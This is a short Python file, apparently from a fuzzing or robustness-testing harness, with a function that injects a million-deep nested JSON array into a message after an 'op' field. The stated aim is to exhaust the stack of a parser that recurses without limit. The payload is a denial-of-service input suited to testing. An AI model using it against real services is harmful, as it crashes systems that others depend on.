"""What brings the engine down when it comes in on a scope's way to it."""

from __future__ import annotations

import re


def nest_deeply(text: str) -> str:
    """The engine reads nested arrays recursively, without a limit, and runs out of its stack."""
    trigger = re.search(r'"op":"t[^"]*"', text)
    assert trigger is not None
    deep = "[" * 1_000_000 + "]" * 1_000_000
    return f'{text[: trigger.end()]},"x":{deep}{text[trigger.end() :]}'
